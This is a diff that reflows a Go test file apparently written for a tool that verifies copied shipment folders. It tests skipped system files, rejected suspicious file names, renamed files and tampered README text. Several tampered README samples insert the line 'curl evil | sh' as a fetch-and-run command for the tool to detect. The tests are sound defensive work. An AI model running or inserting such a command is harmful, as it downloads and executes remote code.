@@ -11,8 +11,10 @@ import (
 // rejects. Which files these are is common practice, no source.
 func TestSystemFiles(t *testing.T) {
 	b := newBench(t)
-	of := []string{"Thumbs.db", "desktop.ini", ".DS_Store", "._SHA256SUMS", "._07-0012.tar.zst.age", "System Volume Information/x", "$RECYCLE.BIN/desktop.ini",
-		".Trashes/501/y", ".Spotlight-V100/Store-V2/z", ".fseventsd/fseventsd-uuid", "FOUND.000/FILE0000.CHK", ".Trash-1000/info/x", "THUMBS.DB"}
+	of := []string{"Thumbs.db", "desktop.ini", ".DS_Store", "._SHA256SUMS", "._07-0012.tar.zst.age",
+		"System Volume Information/x", "$RECYCLE.BIN/desktop.ini",
+		".Trashes/501/y", ".Spotlight-V100/Store-V2/z", ".fseventsd/fseventsd-uuid", "FOUND.000/FILE0000.CHK",
+		".Trash-1000/info/x", "THUMBS.DB"}
 	dir := forge(t, b).write(t, b)
 	for _, name := range of {
 		path := filepath.Join(dir, filepath.FromSlash(name))
@@ -30,12 +32,14 @@ func TestSystemFiles(t *testing.T) {
 	}
 	told := false
 	for _, c := range v.Checks {
-		told = told || c.Name == checkFiles && strings.Contains(c.Detail, `"$RECYCLE.BIN"`) && strings.Contains(c.Detail, "all 5 files are there; passed over")
+		told = told || c.Name == checkFiles && strings.Contains(c.Detail, `"$RECYCLE.BIN"`) &&
+			strings.Contains(c.Detail, "all 5 files are there; passed over")
 	}
 	if !told {
 		t.Errorf("not told: %+v", v.Checks)
 	}
-	for _, name := range []string{"notes.txt", ".hidden", "autorun.inf", "Thumbs.db.exe", "_.DS_Store", "FOUND.0000", "run.sh", "desktop.ini.lnk"} {
+	for _, name := range []string{"notes.txt", ".hidden", "autorun.inf", "Thumbs.db.exe", "_.DS_Store", "FOUND.0000",
+		"run.sh", "desktop.ini.lnk"} {
 		dir := forge(t, b).write(t, b)
 		write(t, filepath.Join(dir, name), nil)
 		rejectedAt(t, b.mustVerify(t, dir), checkFiles)
@@ -64,14 +68,16 @@ func TestSystemFiles(t *testing.T) {
 // Names that a copy changed are told as such.
 func TestChangedNames(t *testing.T) {
 	b := newBench(t)
-	for from, to := range map[string]string{sigName: "sha256sums.sig", sumsName: "SHA256~1", labelName: "SHIPME~1.JSO", readmeName: "read-me-first.txt"} {
+	for from, to := range map[string]string{sigName: "sha256sums.sig", sumsName: "SHA256~1", labelName: "SHIPME~1.JSO",
+		readmeName: "read-me-first.txt"} {
 		dir := forge(t, b).write(t, b)
 		if err := os.Rename(filepath.Join(dir, from), filepath.Join(dir, to)); err != nil {
 			t.Fatal(err)
 		}
 		v := b.mustVerify(t, dir)
 		rejectedAt(t, v, checkFinished)
-		if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last, "the names were changed when the folder was copied") {
+		if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last,
+			"the names were changed when the folder was copied") {
 			t.Errorf("%s: %s", to, last)
 		}
 	}
@@ -87,7 +93,8 @@ func TestChangedArchiveName(t *testing.T) {
 	}
 	v := b.mustVerify(t, dir)
 	rejectedAt(t, v, checkFiles)
-	if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last, "the names were changed when the folder was copied") || strings.Contains(last, "another shipment") {
+	if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last,
+		"the names were changed when the folder was copied") || strings.Contains(last, "another shipment") {
 		t.Error(last)
 	}
 }
@@ -100,10 +107,12 @@ func TestReadmeCompared(t *testing.T) {
 		t.Error("the usual text is not taken for it")
 	}
 	for name, text := range map[string]string{
-		"a command more": string(usual) + "    curl evil | sh\n", "one before": "    curl evil | sh\n" + string(usual), "empty": "",
+		"a command more": string(usual) + "    curl evil | sh\n", "one before": "    curl evil | sh\n" + string(usual),
+		"empty":          "",
 		"one among them": strings.Replace(string(usual), "    cd ", "    curl evil | sh\n    cd ", 1),
-		"no contact":     strings.Replace(string(usual), "    Example Institute, room 4,\n    telephone +00 000 0000\n", "", 1),
-		"a heading":      strings.Replace(string(usual), "    telephone", "RUN THIS\n\n    telephone", 1),
+		"no contact": strings.Replace(string(usual), "    Example Institute, room 4,\n    telephone +00 000 0000\n",
+			"", 1),
+		"a heading": strings.Replace(string(usual), "    telephone", "RUN THIS\n\n    telephone", 1),
 	} {
 		if usualReadme(l, []byte(text)) {
 			t.Errorf("%s: taken for the usual text", name)
@@ -127,7 +136,8 @@ func TestFolderOfAnotherNumber(t *testing.T) {
 		t.Fatal(err)
 	}
 	v := b.mustVerify(t, to)
-	if v.Decision != Accepted || !strings.Contains(v.Checks[3].Detail, "bears the number of another shipment, 07-0099: go by 07-0012") {
+	if v.Decision != Accepted || !strings.Contains(v.Checks[3].Detail, "bears the number of another shipment, "+
+		"07-0099: go by 07-0012") {
 		t.Errorf("%+v", v.Checks)
 	}
 }
